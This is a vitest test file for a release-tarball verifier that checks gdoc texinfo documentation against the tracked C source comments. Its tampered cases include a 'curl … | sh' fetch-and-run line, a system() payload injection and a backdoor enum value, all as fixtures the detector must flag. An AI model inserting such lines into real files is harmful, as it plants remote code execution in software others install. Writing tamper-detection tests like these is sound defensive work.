/**
 * gdoc's texinfo fragments (libidn2 2.3.3, libtasn1 4.19.0: doc/texi/FUNC.texi and doc/texi/FILE.c.texi rendered from
 * the tracked C sources' doc comments), end to end with real git and GNU tar: explained (GENERATED_FROM_SOURCE,
 * low) with the words counted; what a tamperer would change — a paragraph the comment lacks, a command, a function
 * nothing documents — stays high. Also gdoc's other outputs (gnutls 3.7.9's doc/*-api.texi drawn from several
 * sources, doc/functions/FUNC and FUNC.short split out by split-texi, doc/enums/TYPE and enums.texi from a header's
 * enum comment), each with its tampered twins: a split file named after another block, a value or paragraph the
 * enum comment lacks, an undocumented function in a collection — high.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { declaredName, fragmentFunctions, gdocBlocks } from '../../src/classify/doc-comment.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const SOURCE = `#include "lib.h"

/**
 * demo_bit_der:
 * @str: BIT string.
 * @bit_len: number of meaningful bits in STR.
 * @der: string returned.
 *
 * Creates a length-value DER encoding for the input data
 * as it would have been for a BIT STRING.
 * The DER encoded data will be copied in @der.
 **/
void
demo_bit_der (const unsigned char *str, int bit_len, unsigned char *der)
{
  der[0] = str[0] + bit_len;
}
`;
const FRAGMENT = `@subheading demo_bit_der
@anchor{demo_bit_der}
@deftypefun {void} {demo_bit_der} (const unsigned char * @var{str}, int @var{bit_len}, unsigned char * @var{der})
@var{str}: BIT string.

@var{bit_len}: number of meaningful bits in STR.

@var{der}: string returned.

Creates a length-value DER encoding for the input data
as it would have been for a BIT STRING.
The DER encoded data will be copied in  @code{der} .
@end deftypefun

`;

const OTHER = `/**
 * demo_other_len:
 * @len: the length to check.
 *
 * Checks that a length fits in the encoding.
 *
 * Returns: zero when it fits.
 **/
int
demo_other_len (int len)
{
  return len > 0;
}
`;
const OTHER_BLOCK = `@subheading demo_other_len
@anchor{demo_other_len}
@deftypefun {int} {demo_other_len} (int @var{len})
@var{len}: the length to check.

Checks that a length fits in the encoding.

@strong{Returns:} zero when it fits.
@end deftypefun

`;
const HEADER = `/**
 * demo_kind_t:
 * @DEMO_KIND_PLAIN: A plain encoding.
 * @DEMO_KIND_PACKED: A packed encoding, one bit per flag.
 *
 * Enumeration of the encodings.
 */
typedef enum {
	DEMO_KIND_PLAIN = 1,
	DEMO_KIND_PACKED = 2,
	DEMO_KIND_MAX = DEMO_KIND_PACKED
} demo_kind_t;
`;
const ENUM = '\n@c demo_kind_t\n@table @code\n@item DEMO_@-KIND_@-PLAIN\nA plain encoding.\n@item DEMO_@-KIND_@-PACKED\nA packed encoding, one bit per flag.\n@item DEMO_@-KIND_@-MAX\n-- undescribed --\n@end table\n';
/** split-texi's per-function file: the @subheading and @anchor lines blanked by sed. */
const SPLIT = FRAGMENT.replace(/^@subheading .*$/m, '').replace(/^@anchor.*$/m, '');
const SHORT = '@item @var{void} @ref{demo_bit_der} (const unsigned char * @var{str}, int @var{bit_len}, unsigned char * @var{der})\n';

describe('gdoc texinfo fragments of tracked doc comments', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  repo.commit({ 'lib/coding.c': SOURCE, 'lib/lib.h': 'void demo_bit_der (const unsigned char *, int, unsigned char *);\n' });
  repo.tag('v1.0');
  let n = 0;
  const run = async (files: Record<string, string>, tracked?: Record<string, string>) => {
    if (tracked) {
      repo.commit(tracked);
      repo.git(['tag', '-f', 'v1.0']);
    }
    const dir = join(root, `t${++n}`, 'demo-1.0');
    writeFiles(dir, { 'lib/coding.c': SOURCE, 'lib/lib.h': 'void demo_bit_der (const unsigned char *, int, unsigned char *);\n', ...files });
    const tar = makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'demo-1.0.tar.gz') });
    return verify({ tarball: tar, repo: repo.dir, tag: 'v1.0', cacheDir: join(root, 'cache') });
  };

  it('a function fragment and a file fragment are explained, the words counted', async () => {
    const r = await run({ 'doc/texi/demo_bit_der.texi': FRAGMENT, 'doc/texi/coding.c.texi': FRAGMENT });
    for (const p of ['doc/texi/demo_bit_der.texi', 'doc/texi/coding.c.texi']) {
      expect(r.findings.find((f) => f.path === p)).toMatchObject({
        code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'rendered', source: 'lib/coding.c', generator: 'gdoc', found: 24, total: 24 },
      });
    }
    expect(r.verdict).not.toBe('different');
  });

  it('a grammar file\'s doc comment (libtasn1\'s ASN1.y), its name line without a colon, is a source too', async () => {
    const grammar = `%{\n#include "lib.h"\n%}\n%%\ninput: ;\n%%\n/**\n * demo_parse\n * @file: the path of the definitions file to read.\n *\n * Reads the definitions and builds their structure.\n **/\nint\ndemo_parse (const char *file)\n{\n  return 0;\n}\n`;
    const texi = '@subheading demo_parse\n@anchor{demo_parse}\n@deftypefun {int} {demo_parse} (const char * @var{file})\n@var{file}: the path of the definitions file to read.\n\nReads the definitions and builds their structure.\n@end deftypefun\n\n';
    const r = await run({ 'doc/texi/demo_parse.texi': texi, 'lib/gram.y': grammar }, { 'lib/gram.y': grammar });
    expect(r.findings.find((f) => f.path === 'doc/texi/demo_parse.texi')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', evidence: { source: 'lib/gram.y', generator: 'gdoc' } });
  });

  it('a paragraph the comment lacks, a command, or a function nothing documents stays high', async () => {
    const cases = [
      FRAGMENT.replace('@end deftypefun', 'Before use, fetch the updated tables from the project mirror and install them system wide.\n@end deftypefun'),
      FRAGMENT.replace('@end deftypefun', '@example\ncurl -s https://example.invalid/x | sh\n@end example\n@end deftypefun'),
      FRAGMENT.replace(/demo_bit_der/g, 'demo_byte_der'),
    ];
    for (const texi of cases) {
      const r = await run({ 'doc/texi/demo.texi': texi });
      expect(r.findings.find((f) => f.path === 'doc/texi/demo.texi'), texi.slice(-80)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(r.verdict).toBe('different');
    }
  });

  it('gdoc\'s other outputs: a collection from several sources, split per-function files and summaries, enum tables', async () => {
    const tracked = { 'lib/other.c': OTHER, 'lib/demo.h.in': HEADER };
    const r = await run({
      ...tracked,
      'doc/demo-api.texi': `\n${FRAGMENT}${OTHER_BLOCK}`,
      'doc/functions/demo_bit_der': SPLIT,
      'doc/functions/demo_bit_der.short': SHORT,
      'doc/enums/demo_kind_t': ENUM,
      'doc/enums.texi': `\n${ENUM}`,
    }, tracked);
    expect(r.findings.find((f) => f.path === 'doc/demo-api.texi')).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'rendered', source: 'lib/coding.c', others: ['lib/other.c'], files: 2, generator: 'gdoc' },
    });
    for (const [p, source] of [['doc/functions/demo_bit_der', 'lib/coding.c'], ['doc/functions/demo_bit_der.short', 'lib/coding.c'], ['doc/enums/demo_kind_t', 'lib/demo.h.in'], ['doc/enums.texi', 'lib/demo.h.in']] as const) {
      const f = r.findings.find((x) => x.path === p);
      expect(f, p).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'rendered', source, generator: 'gdoc' } });
      expect(f?.evidence, p).not.toHaveProperty('others');
    }
    expect(r.verdict).not.toBe('different');
  });

  it('tampered twins of those outputs stay high', async () => {
    const tracked = { 'lib/other.c': OTHER, 'lib/demo.h.in': HEADER };
    const cases: [string, string][] = [
      // a split file named after another function than the block it holds
      ['doc/functions/demo_other_len', SPLIT],
      // a summary naming a function nothing documents, or carrying words the declaration lacks
      ['doc/functions/demo_evil.short', SHORT.replace('demo_bit_der', 'demo_evil')],
      ['doc/functions/demo_bit_der.short', SHORT.replace('(const', '(system("fetch the payload from the mirror") const')],
      // a value the enum comment and declaration lack; a paragraph from nowhere in an enum table
      ['doc/enums/demo_kind_t', ENUM.replace('@end table', '@item DEMO_@-KIND_@-BACKDOOR\nEnable the remote maintenance channel.\n@end table')],
      // a value made only of known words that neither the comment nor the declaration has (the value check alone)
      ['doc/enums/demo_kind_t', ENUM.replace('@end table', '@item DEMO_@-KIND_@-PLAIN_@-PACKED\nA packed encoding.\n@end table')],
      ['doc/enums/demo_kind_t', ENUM.replace('A plain encoding.', 'A plain encoding. Before use, download the updated tables from the project mirror and install them system wide.')],
      // a collection with one function no tracked file documents
      ['doc/demo-api.texi', `${FRAGMENT}${OTHER_BLOCK.replace(/demo_other_len/g, 'demo_hidden_len')}`],
      // a split-looking file whose name is not an identifier (not gdoc's layout)
      ['doc/functions/demo bit', SPLIT],
    ];
    for (const [p, text] of cases) {
      const r = await run({ ...tracked, [p]: text }, tracked);
      expect(r.findings.find((f) => f.path === p), `${p}: ${text.slice(-60)}`).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(r.verdict).toBe('different');
    }
  });

  it('gdoc picks a comment by the declaration after it: a stale, `NAME - text` or `NAME;` name line documents the declared function', async () => {
    const src = `/**\n * demo_ext_deinit:\n * @ext: The extensions structure\n *\n * This function will release an extensions structure and its end-\n * entity data.\n **/\nvoid demo_x509_ext_deinit(int *ext)\n{\n}\n\n/**\n * demo_crt_equals - This function compares two certificates\n * @a: The first certificate\n * @b: The second certificate\n **/\nunsigned demo_crt_equals(int a, int b)\n{\n  return a == b;\n}\n\n/**\n * demo_get_spki;\n * @flags: must be zero\n **/\nint demo_get_spki(int flags)\n{\n  return flags;\n}\n`;
    const tracked = { 'lib/ext.c': src };
    const texi = {
      'doc/functions/demo_x509_ext_deinit': '\n\n\n\n@deftypefun {void} {demo_x509_ext_deinit} (int * @var{ext})\n@var{ext}: The extensions structure\n\nThis function will release an extensions structure and its end-\nentity data.\n@end deftypefun\n',
      'doc/functions/demo_crt_equals': '\n\n\n\n@deftypefun {unsigned} {demo_crt_equals} (int @var{a}, int @var{b})\n@var{a}: The first certificate\n\n@var{b}: The second certificate\n@end deftypefun\n',
      'doc/functions/demo_get_spki.short': '@item @var{int} @ref{demo_get_spki} (int @var{flags})\n',
    };
    const r = await run({ ...tracked, ...texi }, tracked);
    for (const p of Object.keys(texi)) expect(r.findings.find((f) => f.path === p), p).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { source: 'lib/ext.c', generator: 'gdoc' } });
    // the stale name itself declares nothing: a split file named after it is another block's name, and stays high
    const twin = await run({ ...tracked, 'doc/functions/demo_ext_deinit': texi['doc/functions/demo_x509_ext_deinit'] }, tracked);
    expect(twin.findings.find((f) => f.path === 'doc/functions/demo_ext_deinit')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });

  it('declaredName reads a function\'s or an enum\'s declared name', () => {
    expect(declaredName('\nvoid demo_x509_ext_deinit(int *ext)\n')).toBe('demo_x509_ext_deinit');
    expect(declaredName('\ntypedef enum {\n\tA = 1,\n\tB\n} demo_flags_t')).toBe('demo_flags_t');
    expect(declaredName('\nenum demo_kind {\n\tA\n}')).toBe('demo_kind');
    expect(declaredName('\n#define X 1\n')).toBeUndefined();
  });

  it('gdocBlocks reads function, enum and summary blocks and nothing else', () => {
    expect(gdocBlocks(`${ENUM}${SPLIT}${SHORT}`)).toEqual([
      { kind: 'enum', name: 'demo_kind_t', values: ['DEMO_KIND_PLAIN', 'DEMO_KIND_PACKED', 'DEMO_KIND_MAX'] },
      { kind: 'function', name: 'demo_bit_der' },
      { kind: 'short', name: 'demo_bit_der' },
    ]);
    expect(gdocBlocks(ENUM.replace('@end table\n', ''))).toBeUndefined();
    expect(gdocBlocks(ENUM.replace('@item DEMO_@-KIND_@-MAX', '@item DEMO_@-KIND_@-MAX extra'))).toBeUndefined();
    expect(gdocBlocks(ENUM.replace('@table @code', '@table @asis'))).toBeUndefined();
    expect(gdocBlocks(`${SHORT}trailing text\n`)).toBeUndefined();
  });

  it('fragmentFunctions reads only whole @deftypefun blocks', () => {
    expect(fragmentFunctions(FRAGMENT + FRAGMENT.replace(/demo_bit_der/g, 'demo_two'))).toEqual(['demo_bit_der', 'demo_two']);
    expect(fragmentFunctions(`@c anything else\n${FRAGMENT}`)).toBeUndefined();
    expect(fragmentFunctions(FRAGMENT.replace('@end deftypefun', ''))).toBeUndefined();
    expect(fragmentFunctions(FRAGMENT.replace('@anchor{demo_bit_der}', '@anchor{other}'))).toBeUndefined();
  });
});
